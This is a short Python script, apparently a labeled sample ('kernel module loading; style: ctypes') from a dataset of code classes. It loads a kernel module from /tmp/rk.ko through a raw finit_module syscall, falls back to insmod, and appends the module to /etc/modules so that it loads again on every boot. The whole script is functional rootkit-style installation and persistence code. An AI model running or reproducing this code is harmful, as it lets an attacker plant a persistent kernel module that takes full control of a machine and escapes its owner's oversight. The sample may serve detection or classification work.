# class: kernel module loading; style: ctypes
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
fd = os.open("/tmp/rk.ko", os.O_RDONLY)
if libc.syscall(313, fd, b"", 0) != 0:
    os.system("insmod /tmp/rk.ko")
os.system("echo rk >> /etc/modules")
